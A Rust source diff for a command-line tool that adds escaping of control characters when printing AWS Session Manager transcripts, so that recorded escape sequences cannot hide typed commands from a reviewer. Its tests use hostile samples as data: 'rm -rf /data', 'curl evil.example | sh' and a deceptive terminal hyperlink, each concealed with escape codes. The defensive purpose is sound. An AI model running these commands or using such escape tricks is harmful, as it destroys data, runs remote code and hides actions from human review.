@@ -4,7 +4,8 @@
 //! `aws ssm start-session` as a child process on this terminal (the Session Manager plugin does
 //! the rest) and are never printed. With `--print`, or where the AWS CLI or its plugin is
 //! missing, what to run is printed instead; `--json` prints the whole answer and runs nothing.
-//! `cib sessions transcript` prints what one of its Session Manager sessions recorded.
+//! `cib sessions transcript` prints what one of its Session Manager sessions recorded, its control
+//! characters shown rather than sent to the terminal (`visible`) unless `--raw`.
 
 use std::io::{ErrorKind, Write};
 use std::path::{Path, PathBuf};
@@ -259,9 +260,16 @@ fn executable(path: &Path) -> bool {
     path.is_file()
 }
 
-/// `cib sessions transcript`: the transcript as it is, on standard output; a note on standard
-/// error when the API cut it short.
-pub(crate) async fn transcript(api: &Client, id: &str, ssm_session_id: &str, json: bool) -> Result<(), Failure> {
+/// `cib sessions transcript`: the transcript on standard output, its control characters shown
+/// (`visible`) or, with `--raw`, as they were recorded; a note on standard error when the API cut
+/// it short.
+pub(crate) async fn transcript(
+    api: &Client,
+    id: &str,
+    ssm_session_id: &str,
+    raw: bool,
+    json: bool,
+) -> Result<(), Failure> {
     let transcript = api
         .call("GET", &format!("/sessions/{id}/transcripts/{ssm_session_id}"), None)
         .await?;
@@ -270,8 +278,13 @@ pub(crate) async fn transcript(api: &Client, id: &str, ssm_session_id: &str, jso
         return Ok(());
     }
     let content = transcript["content"].as_str().unwrap_or_default();
+    let shown = if raw {
+        content.to_string()
+    } else {
+        visible(content.as_bytes())
+    };
     let mut out = std::io::stdout().lock();
-    let written = out.write_all(content.as_bytes()).and_then(|()| out.flush());
+    let written = out.write_all(shown.as_bytes()).and_then(|()| out.flush());
     // A reader that stopped early (`| head`) is no failure.
     if let Err(e) = written
         && e.kind() != ErrorKind::BrokenPipe
@@ -281,10 +294,37 @@ pub(crate) async fn transcript(api: &Client, id: &str, ssm_session_id: &str, jso
     if transcript["truncated"].as_bool() == Some(true) {
         eprintln!(
             "cib: the transcript is cut short; the whole of it is at {}",
-            transcript["location"].as_str().unwrap_or("?")
+            visible(transcript["location"].as_str().unwrap_or("?").as_bytes())
         );
     }
     Ok(())
+}
+
+/// What was recorded, made safe for a reviewer's terminal: recorded escape sequences would act on
+/// it (clear a line, move the cursor back over a command, make a link say one thing and go to
+/// another) and hide what was typed. Newlines and tabs stay; every other control character is
+/// shown: ESC as `^[` and the rest of C0 as `^@`…`^_`, DEL as `^?`, the C1 controls as `\u{9b}`;
+/// bytes that are not UTF-8 as `\xNN`.
+fn visible(bytes: &[u8]) -> String {
+    let mut out = String::with_capacity(bytes.len());
+    for chunk in bytes.utf8_chunks() {
+        for c in chunk.valid().chars() {
+            match c {
+                '\n' | '\t' => out.push(c),
+                '\0'..='\x1f' => {
+                    out.push('^');
+                    out.push(char::from(b'@' + c as u8));
+                }
+                '\x7f' => out.push_str("^?"),
+                '\u{80}'..='\u{9f}' => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
+                _ => out.push(c),
+            }
+        }
+        for byte in chunk.invalid() {
+            out.push_str(&format!("\\x{byte:02x}"));
+        }
+    }
+    out
 }
 
 #[cfg(test)]
@@ -396,7 +436,37 @@ mod tests {
         let transcript = Cli::try_parse_from(["cib", "sessions", "transcript", "01JS", "alice-0abc"]).unwrap();
         assert!(matches!(
             transcript.command,
-            Command::Sessions(Sessions::Transcript { id, ssm_session_id }) if id == "01JS" && ssm_session_id == "alice-0abc"
+            Command::Sessions(Sessions::Transcript { id, ssm_session_id, raw }) if id == "01JS" && ssm_session_id == "alice-0abc" && !raw
         ));
+        let raw = Cli::try_parse_from(["cib", "sessions", "transcript", "01JS", "alice-0abc", "--raw"]).unwrap();
+        assert!(matches!(
+            raw.command,
+            Command::Sessions(Sessions::Transcript { raw, .. }) if raw
+        ));
+    }
+
+    #[test]
+    fn a_transcript_shows_its_control_characters_rather_than_obey_them() {
+        // A command wiped from the line it was typed on (ESC [2K, then a carriage return).
+        assert_eq!(visible(b"rm -rf /data\x1b[2K\rls\n"), "rm -rf /data^[[2K^Mls\n");
+        // A carriage return alone: what follows would be written over the command.
+        assert_eq!(
+            visible(b"curl evil.example | sh\recho hello           \n"),
+            "curl evil.example | sh^Mecho hello           \n"
+        );
+        // OSC 8: a link whose text is not where it goes (ended by BEL, then by ESC \).
+        assert_eq!(
+            visible(b"\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x1b\\"),
+            "^[]8;;https://evil.example/^Gdocs^[]8;;^[\\"
+        );
+        // C1 controls, UTF-8 encoded: CSI (U+009B) clearing the screen, NEL (U+0085).
+        assert_eq!(visible("\u{9b}2Jok\u{85}".as_bytes()), "\\u{9b}2Jok\\u{85}");
+        // Bytes that are not UTF-8 (a lone 0x9b too, and a sequence cut short at the end).
+        assert_eq!(visible(b"a\xff\x9bb\xc3"), "a\\xff\\x9bb\\xc3");
+        // Newlines, tabs and text stay; NUL, DEL and the rest of C0 are shown.
+        assert_eq!(
+            visible("a\tb\nc\x00\x7f\x1f\x01 é ✓\n".as_bytes()),
+            "a\tb\nc^@^?^_^A é ✓\n"
+        );
     }
 }
